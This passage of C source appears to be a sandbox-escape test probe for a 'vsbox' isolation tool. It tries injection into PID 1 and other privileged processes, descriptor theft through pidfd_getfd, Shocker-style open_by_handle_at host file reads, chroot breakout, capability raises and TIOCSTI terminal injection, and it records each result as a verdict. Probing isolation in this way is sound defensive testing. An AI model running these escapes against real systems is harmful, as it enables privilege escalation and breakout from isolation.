        verdict("init_inject_unshare_userns", 0, "injected unshare(CLONE_NEWUSER): %s", ok ? strerror((int)-r) : "mechanics failed");
}

static void a_visible_stronger(void) {
    static int pids[65536];
    int np = list_pids("/proc", pids, 65536), found = 0, injected = 0;
    char what[500] = "";
    size_t l = 0;
    for (int i = 0; i < np; i++) {
        if (pids[i] == 1 || pids[i] == getpid() || pids[i] == getppid()) continue;
        struct pstate s = read_state(pids[i]);
        if (!s.ok) continue;
        char why[300];
        stronger(&s, why, sizeof why);
        if (!why[0]) continue;
        found++;
        struct victim v;
        const char *no = seize(&v, pids[i]);
        int ok = 0;
        if (!no) {
            long r = inject(&v, &ok, SYS_getpid, 0, 0, 0, 0, 0, 0);
            (void)r;
            release(&v);
            if (ok) injected++;
        }
        if (l < sizeof what - 120) l += snprintf(what + l, sizeof what - l, "%d(%s): %s%s; ", pids[i], s.name, why, ok ? "seized and injected" : "");
    }
    if (found)
        verdict("visible_stronger_processes", 1, "%d processes stronger than the probe (%d injected): %s", found, injected, what);
    else
        verdict("visible_stronger_processes", 0, "none of %d visible processes holds more than the probe", np);
}

static void a_init_fds(void) {
    DIR *d = opendir("/proc/1/fd");
    if (!d) {
        verdict("init_descriptors", 0, "/proc/1/fd unreadable: %s", err());
        verdict("pidfd_getfd_init", 0, "no descriptor list of PID 1");
        return;
    }
    int fds[256], n = 0, bad = 0, got = 0;
    char what[500] = "", took[300] = "";
    struct dirent *e;
    while ((e = readdir(d)) && n < 256)
        if (is_pid_name(e->d_name) && atoi(e->d_name) > 2) fds[n++] = atoi(e->d_name);
    closedir(d);
    int pfd = syscall(SYS_pidfd_open, 1, 0);
    for (int i = 0; i < n; i++) {
        char p[64], link[300];
        snprintf(p, sizeof p, "/proc/1/fd/%d", fds[i]);
        ssize_t ll = readlink(p, link, sizeof link - 1);
        link[ll > 0 ? ll : 0] = 0;
        if (!strncmp(link, "anon_inode:", 11)) continue;
        bad++;
        size_t l = strlen(what);
        if (l < sizeof what - 80) snprintf(what + l, sizeof what - l, "%d->%s ", fds[i], link);
        if (pfd >= 0) {
            int mine = syscall(SYS_pidfd_getfd, pfd, fds[i], 0);
            if (mine >= 0) {
                got++;
                close(mine);
                l = strlen(took);
                if (l < sizeof took - 20) snprintf(took + l, sizeof took - l, "%d ", fds[i]);
            }
        }
    }
    if (bad)
        verdict("init_descriptors", 1, "PID 1 holds %s", what);
    else
        verdict("init_descriptors", 0, "PID 1 has no descriptor above 2 but anonymous ones (%d)", n);
    if (got)
        verdict("pidfd_getfd_init", 1, "took PID 1's descriptors %s", took);
    else
        verdict("pidfd_getfd_init", 0, "%s", pfd < 0 ? "no pidfd of PID 1" : "no descriptor of PID 1 taken");
}

/* --- Shocker --- */

static void a_shocker(void) {
    struct handle h;
    char dir[1024];
    const char *why = host_handle(&h, dir, sizeof dir);
    if (why) {
        verdict("shocker_open_by_handle_at", 0, "%s", why);
        return;
    }
    int m = open(dir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    long fd = syscall(SYS_open_by_handle_at, m, &h.fh, O_RDONLY | O_CLOEXEC);
    if (fd >= 0) {
        char buf[65] = "";
        ssize_t n = read(fd, buf, 64);
        buf[n > 0 ? n : 0] = 0;
        verdict("shocker_open_by_handle_at", 1, "opened the host file through a handle: '%s'", buf);
    } else
        verdict("shocker_open_by_handle_at", 0, "open_by_handle_at: %s", err());
}

static void a_shocker_root(void) {
    struct handle h;
    int mid;
    memset(&h, 0, sizeof h);
    h.fh.handle_bytes = MAX_HANDLE_SZ;
    if (name_to_handle_at(AT_FDCWD, "/", &h.fh, &mid, 0) < 0 || h.fh.handle_type != 1) {
        verdict("shocker_fs_root_inode", 0, "no ext4-style handle of / to craft (%s)", err());
        return;
    }
    uint32_t two[2] = {2, 0};
    memcpy(h.fh.f_handle, two, 8);
    h.fh.handle_bytes = 8;
    int m = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    long fd = syscall(SYS_open_by_handle_at, m, &h.fh, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (fd >= 0) {
        struct stat a, b;
        fstat(fd, &a);
        stat("/", &b);
        verdict("shocker_fs_root_inode", 1, "opened the filesystem's root directory by inode 2%s", a.st_ino != b.st_ino ? " (outside this root)" : "");
    } else
        verdict("shocker_fs_root_inode", 0, "open_by_handle_at(inode 2): %s", err());
}

/* --- kernel facilities that are refused --- */

static void a_bpf_map(void) {
    union bpf_attr a;
    memset(&a, 0, sizeof a);
    a.map_type = BPF_MAP_TYPE_ARRAY;
    a.key_size = 4;
    a.value_size = 4;
    a.max_entries = 1;
    must_fail("bpf_map_create", syscall(SYS_bpf, BPF_MAP_CREATE, &a, sizeof a), "bpf(BPF_MAP_CREATE)");
}

static void a_bpf_prog(void) {
    struct bpf_insn insns[2] = {{0}};
    insns[0].code = BPF_ALU64 | BPF_MOV | BPF_K; /* r0 = 0 */
    insns[1].code = BPF_JMP | BPF_EXIT;
    union bpf_attr a;
    memset(&a, 0, sizeof a);
    a.prog_type = BPF_PROG_TYPE_SOCKET_FILTER;
    a.insn_cnt = 2;
    a.insns = (uint64_t)(uintptr_t)insns;
    a.license = (uint64_t)(uintptr_t) "GPL";
    must_fail("bpf_prog_load", syscall(SYS_bpf, BPF_PROG_LOAD, &a, sizeof a), "bpf(BPF_PROG_LOAD socket filter)");
}

static void perf(const char *name, int pid, int cpu) {
    struct perf_event_attr pa;
    memset(&pa, 0, sizeof pa);
    pa.type = PERF_TYPE_SOFTWARE;
    pa.size = sizeof pa;
    pa.config = PERF_COUNT_SW_TASK_CLOCK;
    pa.exclude_kernel = 1;
    pa.exclude_hv = 1;
    must_fail(name, syscall(SYS_perf_event_open, &pa, pid, cpu, -1, 0), "perf_event_open");
}
static void a_perf_self(void) { perf("perf_event_open_self", 0, -1); }
static void a_perf_cpu(void) { perf("perf_event_open_cpu", -1, 0); }

static void a_add_key(void) {
    perm_checked("add_key", syscall(SYS_add_key, "user", "vsbox-probe", "x", 1, KEY_SPEC_PROCESS_KEYRING), "add_key(user)");
}
static void a_keyctl(void) {
    perm_checked("keyctl_user_keyring", syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_USER_KEYRING, 0), "keyctl(GET_KEYRING_ID, the user keyring)");
}
static void a_request_key(void) {
    perm_checked("request_key", syscall(SYS_request_key, "user", "vsbox-probe-absent", NULL, 0), "request_key (no callout)");
}
static void a_kexec(void) { perm_checked("kexec_load", syscall(SYS_kexec_load, 0, 17, NULL, 0), "kexec_load (too many segments)"); }
static void a_kexec_file(void) { perm_checked("kexec_file_load", syscall(SYS_kexec_file_load, -1, -1, 0, "", 0x80000000UL), "kexec_file_load (bad flags)"); }
static void a_init_module(void) { perm_checked("init_module", syscall(SYS_init_module, NULL, 0, ""), "init_module (empty image)"); }
static void a_finit_module(void) { perm_checked("finit_module", syscall(SYS_finit_module, -1, "", 0), "finit_module (bad fd)"); }
static void a_delete_module(void) { perm_checked("delete_module", syscall(SYS_delete_module, "vsbox_probe_absent", O_NONBLOCK), "delete_module (no such module)"); }

static void a_io_uring(void) {
    struct io_uring_params p;
    memset(&p, 0, sizeof p);
    long fd = syscall(SYS_io_uring_setup, 4, &p);
    if (fd >= 0)
        verdict("io_uring_setup", 1, "an io_uring (its operations bypass seccomp)");
    else
        verdict("io_uring_setup", 0, "io_uring_setup: %s", err());
}

static void a_uffd(void) { must_fail("userfaultfd", syscall(SYS_userfaultfd, O_CLOEXEC | O_NONBLOCK), "userfaultfd()"); }

static void a_uffd_dev(void) {
    int fd = open("/dev/userfaultfd", O_RDWR | O_CLOEXEC);
    if (fd < 0) {
        verdict("userfaultfd_dev", 0, "open /dev/userfaultfd: %s", err());
        return;
    }
    must_fail("userfaultfd_dev", ioctl(fd, USERFAULTFD_IOC_NEW, O_CLOEXEC), "/dev/userfaultfd USERFAULTFD_IOC_NEW");
}

static void a_reboot(void) {
    perm_checked("reboot", syscall(SYS_reboot, LINUX_REBOOT_MAGIC1, 0, LINUX_REBOOT_CMD_CAD_OFF, NULL), "reboot (bad magic)");
}

static void a_settimeofday(void) {
    struct timezone tz = {10000, 0}; /* out of range: EINVAL after the check */
    perm_checked("settimeofday", syscall(SYS_settimeofday, NULL, &tz), "settimeofday (bad timezone)");
}

static void a_acct(void) { perm_checked("acct", syscall(SYS_acct, "/nonexistent-vsbox-probe/acct"), "acct (no such file)"); }
static void a_swapoff(void) { perm_checked("swapoff", syscall(SYS_swapoff, "/nonexistent-vsbox-probe"), "swapoff (no such file)"); }
static void a_syslog(void) { perm_checked("syslog_console_level", syscall(SYS_syslog, 8, NULL, 0), "syslog(CONSOLE_LEVEL 0)"); }
static void a_iopl(void) { must_fail("iopl", syscall(SYS_iopl, 3), "iopl(3)"); }
static void a_ioperm(void) { must_fail("ioperm", syscall(SYS_ioperm, 0x80, 1, 1), "ioperm(0x80)"); }

static void a_sethostname(void) {
    char h[256] = "";
    gethostname(h, sizeof h - 1);
    must_fail("sethostname", sethostname(h, strlen(h)), "sethostname (same name)");
}

static void a_nice(void) {
    long r = setpriority(PRIO_PROCESS, 0, -20);
    must_fail("nice_raise", r, "setpriority -20");
}

static void a_ioprio(void) {
    long r = syscall(SYS_ioprio_set, 1 /* WHO_PROCESS */, 0, (1 << 13) | 4 /* class RT, level 4 */);
    must_fail("ioprio_realtime", r, "ioprio_set realtime");
}

static void a_sched_fifo(void) {
    struct sched_param sp = {1};
    must_fail("sched_fifo", sched_setscheduler(0, SCHED_FIFO, &sp), "sched_setscheduler(SCHED_FIFO)");
}

static void a_chroot_breakout(void) {
    struct stat before, after;
    stat("/", &before);
    char j[1200];
    scratch_dir(j, sizeof j, "jail");
    if (chdir("/") || chroot(j)) {
        verdict("chroot_breakout", 0, "chroot: %s", err());
        return;
    }
    for (int i = 0; i < 64; i++)
        if (chdir("..")) break;
    chroot(".");
    stat("/", &after);
    if (after.st_dev != before.st_dev || after.st_ino != before.st_ino)
        verdict("chroot_breakout", 1, "climbed out of the root into another one (dev %lu ino %lu)", (unsigned long)after.st_dev, (unsigned long)after.st_ino);
    else
        verdict("chroot_breakout", 0, "the climb ends at the context's own root");
}

static void a_proc_root(void) {
    static int pids[65536];
    int np = list_pids("/proc", pids, 65536), other = 0;
    struct stat mine, st;
    stat("/", &mine);
    char which[200] = "";
    for (int i = 0; i < np; i++) {
        char p[64];
        snprintf(p, sizeof p, "/proc/%d/root/", pids[i]);
        if (stat(p, &st) == 0 && (st.st_ino != mine.st_ino || st.st_dev != mine.st_dev)) {
            other++;
            size_t l = strlen(which);
            if (l < sizeof which - 12) snprintf(which + l, sizeof which - l, "%d ", pids[i]);
        }
    }
    if (other)
        verdict("proc_pid_root_foreign", 1, "/proc/PID/root leads to another root for %s", which);
    else
        verdict("proc_pid_root_foreign", 0, "every /proc/PID/root of %d is this root", np);
}

/* --- capabilities, file capabilities, setuid --- */

static void a_ceiling(void) {
    int r = prctl(PR_CAPBSET_READ, CAP_SYS_ADMIN, 0, 0, 0);
    if (r == 1)
        verdict("ceiling_sys_admin", 1, "CAP_SYS_ADMIN is in the bounding set");
    else
        verdict("ceiling_sys_admin", 0, "CAP_SYS_ADMIN is not in the bounding set");
}

static void a_capset(void) {
    struct __user_cap_header_struct hd = {_LINUX_CAPABILITY_VERSION_3, 0};
    struct __user_cap_data_struct d[2];
    syscall(SYS_capget, &hd, d);
    d[0].effective |= 1u << CAP_SYS_ADMIN;
    d[0].permitted |= 1u << CAP_SYS_ADMIN;
    long r = syscall(SYS_capset, &hd, d);
    syscall(SYS_capget, &hd, d);
    if (r == 0 && (d[0].effective & (1u << CAP_SYS_ADMIN)))
        verdict("capset_raise", 1, "CAP_SYS_ADMIN effective after capset");
    else
        verdict("capset_raise", 0, "capset +CAP_SYS_ADMIN: %s", r ? err() : "no effect");
}

static void a_ambient(void) {
    /* An ambient capability must be permitted and inheritable: try to make it
     * inheritable first. */
    struct __user_cap_header_struct hd = {_LINUX_CAPABILITY_VERSION_3, 0};
    struct __user_cap_data_struct d[2];
    syscall(SYS_capget, &hd, d);
    d[0].inheritable |= 1u << CAP_SYS_ADMIN;
    syscall(SYS_capset, &hd, d);
    must_fail("ambient_raise", prctl(PR_CAP_AMBIENT, PR_CAP_AMBIENT_RAISE, CAP_SYS_ADMIN, 0, 0), "PR_CAP_AMBIENT_RAISE CAP_SYS_ADMIN");
}

/* Run argv with a timeout; exit status (or 128+signal), its output in out. */
static int run(char *const argv[], int secs, int as_nobody, char *out, size_t n) {
    int p[2];
    if (pipe2(p, O_CLOEXEC)) return -1;
    pid_t pid = fork();
    if (pid == 0) {
        dup2(p[1], 1);
        dup2(p[1], 2);
        int null = open("/dev/null", O_RDONLY);
        if (null >= 0) dup2(null, 0);
        if (as_nobody && (setgroups(0, NULL) || setgid(65534) || setuid(65534))) {
            dprintf(1, "cannot become nobody: %s\n", err());
            _exit(125);
        }
        execv(argv[0], argv);
        dprintf(1, "exec %s: %s\n", argv[0], err());
        _exit(127);
    }
    close(p[1]);
    size_t len = 0;
    time_t end = time(NULL) + secs;
    fcntl(p[0], F_SETFL, O_NONBLOCK);
    int st = 0, done = 0;
    while (!done) {
        ssize_t r = read(p[0], out + len, n - 1 - len);
        if (r > 0) {
            len += r;
            if (len >= n - 1) len = n - 2;
            continue;
        }
        pid_t w = waitpid(pid, &st, WNOHANG);
        if (w == pid) {
            done = 1;
            while ((r = read(p[0], out + len, n - 1 - len)) > 0) len += r;
            break;
        }
        if (time(NULL) > end) {
            kill(pid, SIGKILL);
            waitpid(pid, &st, 0);
            done = 1;
        }
        usleep(5000);
    }
    close(p[0]);
    out[len] = 0;
    return WIFEXITED(st) ? WEXITSTATUS(st) : 128 + WTERMSIG(st);
}

static void exec_copy(const char *name, const char *file, int as_nobody) {
    const char *dir = opt("capdir");
    if (!dir) {
        verdict(name, 0, "no capdir given");
        return;
    }
    char path[1200], out[600];
    snprintf(path, sizeof path, "%s/%s", dir, file);
    char *argv[] = {path, (char *)g_hostns_arg, "escalate", NULL};
    int r = run(argv, 10, as_nobody, out, sizeof out);
    if (r == 10)
        verdict(name, 1, "%s gained: %s", file, out);
    else
        verdict(name, 0, "%s (exit %d): %s", file, r, out);
}
static void a_fcap_root(void) { exec_copy("file_caps_exec", "probe-fcap", 0); }
static void a_fcap_nobody(void) { exec_copy("file_caps_exec_nobody", "probe-fcap", 1); }
static void a_suid_nobody(void) { exec_copy("setuid_root_exec_nobody", "probe-suid", 1); }

/* --- nested contexts --- */

static void nested(const char *name, const char *what, char *const args[], int ipv4root_only) {
    const char *vs = opt("vsbox");
    if (ipv4root_only && !opt("ipv4root")) {
        verdict(name, 0, "no ipv4root");
        return;
    }
    if (!vs || access(vs, X_OK)) {
        verdict(name, 0, "no vsbox binary visible (%s)", vs ? vs : "none given");
        return;
    }
    char *argv[16];
    int i = 0;
    argv[i++] = (char *)vs;
    for (int k = 0; args[k] && i < 15; k++) argv[i++] = args[k];
    argv[i] = NULL;
    char out[600];
    int r = run(argv, 20, 0, out, sizeof out);
    if (r == 0)
        verdict(name, 1, "%s worked", what);
    else if (r == 10)
        verdict(name, 1, "%s saw a host process", what);
    else
        verdict(name, 0, "%s failed (%d): %s", what, r, out);
}

static void a_nested_secure(void) {
    char *a[] = {"chcontext", "--secure", "--silent", "--", g_self, (char *)g_hostns_arg, "noop", NULL};
    nested("nested_chcontext_secure", "chcontext --secure", a, 0);
}
static void a_nested_plain(void) {
    char *a[] = {"chcontext", "--silent", "--", g_self, (char *)g_hostns_arg, "noop", NULL};
    nested("nested_chcontext", "chcontext", a, 0);
}
static void a_nested_chbind(void) {
    char *a[] = {"chbind", "--silent", "--ip", (char *)foreign(), "--", g_self, (char *)g_hostns_arg, "noop", NULL};
    nested("nested_chbind_wider", "chbind --ip 127.0.0.3", a, 1);
}
static void a_nested_spectator(void) {
    char m[300];
    snprintf(m, sizeof m, "markerhex=%s", opt("markerhex") ? opt("markerhex") : "00");
    char *a[] = {"chcontext", "--ctx", "1", "--", g_self, (char *)g_hostns_arg, "hostscan", m, NULL};
    const char *vs = opt("vsbox");
    if (!vs || access(vs, X_OK)) {
        verdict("nested_spectator", 0, "no vsbox binary visible");
        return;
    }
    char *argv[12];
    argv[0] = (char *)vs;
    for (int k = 0; a[k]; k++) argv[k + 1] = a[k], argv[k + 2] = NULL;
    char out[600];
    int r = run(argv, 20, 0, out, sizeof out);
    if (r == 10)
        verdict("nested_spectator", 1, "the spectator saw the host: %s", out);
    else
        verdict("nested_spectator", 0, "chcontext --ctx 1 (%d): %s", r, out);
}

/* --- descriptors --- */

static int g_inherited[256], g_ninherited;

static void note_inherited(void) {
    DIR *d = opendir("/proc/self/fd");
    if (!d) return;
    int self = dirfd(d);
    struct dirent *e;
    while ((e = readdir(d)) && g_ninherited < 256) {
        if (!is_pid_name(e->d_name)) continue;
        int fd = atoi(e->d_name);
        if (fd > 2 && fd != self) g_inherited[g_ninherited++] = fd;
    }
    closedir(d);
}

static void a_inherited(void) {
    if (!g_ninherited) {
        verdict("inherited_descriptors", 0, "only 0 1 2 were open at start");
        return;
    }
    char what[600] = "";
    const char *hostfile = opt("hostfile"), *base = NULL;
    if (hostfile) base = strrchr(hostfile, '/') ? strrchr(hostfile, '/') + 1 : hostfile;
    for (int i = 0; i < g_ninherited; i++) {
        char p[64], link[300] = "";
        snprintf(p, sizeof p, "/proc/self/fd/%d", g_inherited[i]);
        ssize_t ll = readlink(p, link, sizeof link - 1);
        link[ll > 0 ? ll : 0] = 0;
        size_t l = strlen(what);
        snprintf(what + l, sizeof what - l, "%d->%s ", g_inherited[i], link);
        struct stat st;
        if (fstat(g_inherited[i], &st) == 0 && S_ISDIR(st.st_mode)) {
            int up = openat(g_inherited[i], "..", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
            l = strlen(what);
            snprintf(what + l, sizeof what - l, "(a directory%s", up >= 0 ? ", '..' opens" : "");
            if (base) {
                struct stat s2;
                l = strlen(what);
                if (fstatat(g_inherited[i], base, &s2, 0) == 0) snprintf(what + l, sizeof what - l, ", the host marker is in it");
                else if (up >= 0 && fstatat(up, base, &s2, 0) == 0) snprintf(what + l, sizeof what - l, ", the host marker is next to it");
            }
            l = strlen(what);
            snprintf(what + l, sizeof what - l, ") ");
            if (up >= 0) close(up);
        }
    }
    verdict("inherited_descriptors", 1, "%s", what);
}

/* --- terminals --- */

/* TIOCSTI with a NULL pointer: EFAULT means it would have injected. */
static int sti_permitted(int fd, char *why, size_t n) {
    if (ioctl(fd, TIOCSTI, NULL) == 0) return 1;
    if (errno == EFAULT) return 1;
    snprintf(why, n, "%s", err());
    return 0;
}

static void sti_fd(const char *name, int fd) {
    char why[100];
    if (sti_permitted(fd, why, sizeof why))
        verdict(name, 1, "TIOCSTI on fd %d is permitted (%s)", fd, ttyname(fd) ? ttyname(fd) : "a terminal");
    else
        verdict(name, 0, "TIOCSTI on fd %d: %s", fd, why);
}
static void a_sti0(void) { sti_fd("tiocsti_fd0", 0); }
static void a_sti1(void) { sti_fd("tiocsti_fd1", 1); }
static void a_sti2(void) { sti_fd("tiocsti_fd2", 2); }

static void sti_path(const char *name, const char *path) {
    int fd = open(path, O_RDWR | O_NOCTTY | O_NONBLOCK | O_CLOEXEC);
    if (fd < 0) {
        verdict(name, 0, "open %s: %s", path, err());
        return;
    }
    char why[100];
    if (sti_permitted(fd, why, sizeof why))
        verdict(name, 1, "TIOCSTI on %s is permitted", path);
    else
        verdict(name, 0, "TIOCSTI on %s: %s", path, why);
}
static void a_sti_tty(void) { sti_path("tiocsti_dev_tty", "/dev/tty"); }
static void a_sti_console(void) { sti_path("tiocsti_dev_console", "/dev/console"); }

static void sti_many(const char *name, const char *dir, const char *prefix, int linux_too) {
    DIR *d = opendir(dir);
    int tried = 0, opened = 0, ok = 0;
    char which[300] = "";
    struct dirent *e;
    /* TIOCLINUX: the subcode readable, its argument on an unmapped page. */
    char *pg = mmap(NULL, 8192, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    munmap(pg + 4096, 4096);
    pg[4095] = TIOCL_SETSEL;
    while (d && (e = readdir(d))) {
        if (strncmp(e->d_name, prefix, strlen(prefix)) || !strcmp(e->d_name, "ptmx")) continue;
        if (!strcmp(prefix, "tty") && (!e->d_name[3] || !is_pid_name(e->d_name + 3))) continue;
        char p[300];
        snprintf(p, sizeof p, "%s/%s", dir, e->d_name);
        tried++;
        int fd = open(p, O_RDWR | O_NOCTTY | O_NONBLOCK | O_CLOEXEC);
        if (fd < 0) continue;
        opened++;
        char why[100];
        int hit = linux_too ? (ioctl(fd, TIOCLINUX, pg + 4095) < 0 && errno == EFAULT) : sti_permitted(fd, why, sizeof why);
        if (hit) {
            ok++;
            size_t l = strlen(which);
            if (l < sizeof which - 20) snprintf(which + l, sizeof which - l, "%s ", e->d_name);
        }
        close(fd);
    }
    if (d) closedir(d);
    if (ok)
        verdict(name, 1, "%s permitted on %s", linux_too ? "TIOCLINUX SETSEL" : "TIOCSTI", which);
    else
        verdict(name, 0, "%d terminals in %s, %d opened, none permits %s", tried, dir, opened, linux_too ? "TIOCLINUX" : "TIOCSTI");
}
static void a_sti_vts(void) { sti_many("tiocsti_dev_ttyN", "/dev", "tty", 0); }
static void a_sti_pts(void) { sti_many("tiocsti_dev_pts", "/dev/pts", "", 0); }
static void a_linux_vts(void) { sti_many("tioclinux_dev_ttyN", "/dev", "tty", 1); }

static void a_linux_console(void) {
    int fd = open("/dev/console", O_RDWR | O_NOCTTY | O_NONBLOCK | O_CLOEXEC);
    if (fd < 0) {
        verdict("tioclinux_dev_console", 0, "open /dev/console: %s", err());
        return;
    }
    char *pg = mmap(NULL, 8192, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    munmap(pg + 4096, 4096);
    pg[4095] = TIOCL_SETSEL;
    if (ioctl(fd, TIOCLINUX, pg + 4095) < 0 && errno == EFAULT)
        verdict("tioclinux_dev_console", 1, "TIOCLINUX SETSEL permitted on /dev/console");
    else
        verdict("tioclinux_dev_console", 0, "TIOCLINUX on /dev/console: %s", err());
}

/* ------------------------------------------------------------------------ */
/* The modes                                                                  */
/* ------------------------------------------------------------------------ */

struct attack {
    const char *names;
    int timeout;
    void (*fn)(void);
    int skip_when_shared;
};

static const struct attack ATTACKS[] = {
    /* descriptors first: nothing of the probe's own is open yet */
    {"inherited_descriptors", 5, a_inherited, 0},
    {"mount_tmpfs", 5, a_mount_tmpfs, 0},
    {"mount_bind", 5, a_mount_bind, 0},
    {"mount_proc", 5, a_mount_proc, 0},
    {"mount_sysfs", 5, a_mount_sysfs, 0},
    {"mount_devpts", 5, a_mount_devpts, 0},
    {"remount_root", 5, a_remount_root, 0},
    {"remount_proc", 5, a_remount_proc, 0},
    {"remount_proc_sys_rw", 5, a_remount_proc_sys, 0},
    {"remount_sys_rw", 5, a_remount_sys, 0},
    {"umount_proc", 10, a_umount_proc, 0},
    {"umount_proc_sys", 5, a_umount_proc_sys, 0},
    {"umount_sys_fs_cgroup", 5, a_umount_cgroup_mask, 0},
    {"fsopen", 5, a_fsopen, 0},
    {"fsmount", 5, a_fsmount, 0},
    {"open_tree_clone", 5, a_open_tree, 0},
    {"move_mount", 5, a_move_mount, 0},
    {"mount_setattr", 5, a_mount_setattr, 0},
    {"fspick", 5, a_fspick, 0},
    {"mount_cgroup2", 5, a_mount_cgroup2, 0},
    {"mount_cgroup_v1_pids", 5, a_mount_cgroup_pids, 0},
    {"cgroupfs_visible", 5, a_cgroupfs_visible, 0},
    {"cgroup_procs_writable", 10, a_cgroup_procs, 0},
    {"unshare_userns", 5, a_unshare_userns, 0},
    {"clone_userns", 5, a_clone_userns, 0},
    {"clone3_userns", 5, a_clone3_userns, 0},
    {"clone3_newns_newpid", 5, a_clone3_newns, 0},
    {"unshare_mnt", 5, a_unshare_ns, 0},
    {"unshare_uts", 5, a_unshare_uts, 0},
    {"unshare_ipc", 5, a_unshare_ipc, 0},
    {"unshare_net", 5, a_unshare_net, 0},
    {"unshare_pid", 5, a_unshare_pid, 0},
    {"unshare_cgroup", 5, a_unshare_cgroup, 0},
    {"unshare_time", 5, a_unshare_time, 0},
    {"setns_proc", 10, a_setns_proc, 0},
    {"registry_files registry_lock_open registry_lock_flock registry_ns_setns", 10, a_registry, 0},
    {"x32_getpid", 5, a_x32_getpid, 0},
    {"x32_unshare_userns", 5, a_x32_unshare, 0},
    {"i386_getpid", 5, a_i386_getpid, 0},
    {"i386_unshare_userns", 5, a_i386_unshare, 0},
    {"i386_open_by_handle_at", 5, a_i386_open_by_handle, 0},
    {"raw_inet_icmp", 5, a_raw_icmp, 0},
    {"raw_inet_raw", 5, a_raw_raw, 0},
    {"raw_inet6_icmpv6", 5, a_raw6, 0},
    {"packet_raw", 5, a_packet_raw, 0},
    {"packet_dgram", 5, a_packet_dgram, 0},
    {"sock_packet", 5, a_sock_packet, 0},
    {"ping_socket_inet", 5, a_ping4, 0},
    {"ping_socket_inet6", 5, a_ping6, 0},
    {"bind_foreign", 5, a_bind_foreign, 0},
    {"freebind_nonlocal", 5, a_freebind, 0},
    {"ip_transparent", 5, a_transparent, 0},
    {"bind_ipv6_loopback", 5, a_bind6_lo, 0},
    {"send_ipv6_loopback", 5, a_send6_lo, 0},
    {"ip_pktinfo_source", 5, a_pktinfo4, 0},
    {"ipv6_pktinfo_mapped_source", 5, a_pktinfo6_mapped, 0},
    {"ipv6_pktinfo_loopback", 5, a_pktinfo6, 0},
    {"so_mark", 5, a_so_mark, 0},
    {"netadmin_ifflags", 5, a_ifflags, 0},
    {"sysctl_kernel_printk_ratelimit_burst", 5, a_sysctl_kernel, 0},
    {"sysctl_vm_stat_interval", 5, a_sysctl_vm, 0},
    {"sysctl_fs_lease_break_time", 5, a_sysctl_fs, 0},
    {"sysctl_kernel_hostname", 5, a_sysctl_hostname, 0},
    {"sysctl_net_core_somaxconn", 5, a_sysctl_somaxconn, 0},
    {"sysctl_net_ipv4_ip_forward", 5, a_sysctl_forward, 0},
    {"sysctl_net_ipv4_ping_group_range", 5, a_sysctl_ping_range, 0},
    {"sysctl_kernel_sysrq", 5, a_sysrq_sysctl, 0},
    {"sysrq_trigger", 5, a_sysrq, 0},
    {"sys_thp_enabled", 5, a_sys_thp, 0},
    {"sys_thp_defrag", 5, a_sys_thp_defrag, 0},
    {"sys_module_printk_time", 5, a_sys_printk_time, 0},
    {"sys_kernel_rcu_expedited", 5, a_sys_rcu, 0},
    {"sys_power_state", 5, a_sys_power, 0},
    {"mknod_block", 5, a_mknod_block, 0},
    {"mknod_char", 5, a_mknod_char, 0},
    {"kernel_memory_open", 5, a_devmem, 0},
    {"blockdev_read", 5, a_blockdev, 1},
    {"host_processes_visible", 10, a_host_visible, 0},
    {"host_processes_signal_ptrace", 10, a_host_signal, 0},
    {"init_capabilities init_seccomp init_no_new_privs", 5, a_init_status, 0},
    {"init_descriptors pidfd_getfd_init", 5, a_init_fds, 0},
    {"visible_stronger_processes", 15, a_visible_stronger, 0},
    {"shocker_open_by_handle_at", 5, a_shocker, 0},
    {"shocker_fs_root_inode", 5, a_shocker_root, 0},
    {"bpf_map_create", 5, a_bpf_map, 0},
    {"bpf_prog_load", 5, a_bpf_prog, 0},
    {"perf_event_open_self", 5, a_perf_self, 0},
    {"perf_event_open_cpu", 5, a_perf_cpu, 0},
    {"add_key", 5, a_add_key, 0},
    {"keyctl_user_keyring", 5, a_keyctl, 0},
    {"request_key", 5, a_request_key, 0},
    {"kexec_load", 5, a_kexec, 0},
    {"kexec_file_load", 5, a_kexec_file, 0},
    {"init_module", 5, a_init_module, 0},
    {"finit_module", 5, a_finit_module, 0},
    {"delete_module", 5, a_delete_module, 0},
    {"io_uring_setup", 5, a_io_uring, 0},
    {"userfaultfd", 5, a_uffd, 0},
    {"userfaultfd_dev", 5, a_uffd_dev, 0},
    {"reboot", 5, a_reboot, 0},
    {"settimeofday", 5, a_settimeofday, 0},
    {"acct", 5, a_acct, 0},
    {"swapoff", 5, a_swapoff, 0},
    {"syslog_console_level", 5, a_syslog, 0},
    {"iopl", 5, a_iopl, 0},
    {"ioperm", 5, a_ioperm, 0},
    {"sethostname", 5, a_sethostname, 0},
    {"nice_raise", 5, a_nice, 0},
    {"ioprio_realtime", 5, a_ioprio, 0},
    {"sched_fifo", 5, a_sched_fifo, 0},
    {"chroot_breakout", 5, a_chroot_breakout, 0},
    {"proc_pid_root_foreign", 5, a_proc_root, 0},
    {"ceiling_sys_admin", 5, a_ceiling, 0},
    {"capset_raise", 5, a_capset, 0},
    {"ambient_raise", 5, a_ambient, 0},
    {"file_caps_exec", 15, a_fcap_root, 0},
    {"file_caps_exec_nobody", 15, a_fcap_nobody, 0},
    {"setuid_root_exec_nobody", 15, a_suid_nobody, 0},
    {"nested_chcontext_secure", 25, a_nested_secure, 0},
    {"nested_chcontext", 25, a_nested_plain, 0},
    {"nested_chbind_wider", 25, a_nested_chbind, 0},
    {"nested_spectator", 25, a_nested_spectator, 0},
    {"tiocsti_fd0", 5, a_sti0, 0},
    {"tiocsti_fd1", 5, a_sti1, 0},
    {"tiocsti_fd2", 5, a_sti2, 0},
    {"tiocsti_dev_tty", 5, a_sti_tty, 0},
    {"tiocsti_dev_console", 5, a_sti_console, 0},
    {"tiocsti_dev_ttyN", 10, a_sti_vts, 0},
    {"tiocsti_dev_pts", 10, a_sti_pts, 0},
    {"tioclinux_dev_ttyN", 10, a_linux_vts, 0},
    {"tioclinux_dev_console", 5, a_linux_console, 0},
    /* PID 1 last but one: the injection changes its user namespace */
    {"init_inject_open_by_handle_at init_inject_unshare_userns", 20, a_init_inject, 0},
};

static void remove_tree(const char *dir) {
    DIR *d = opendir(dir);
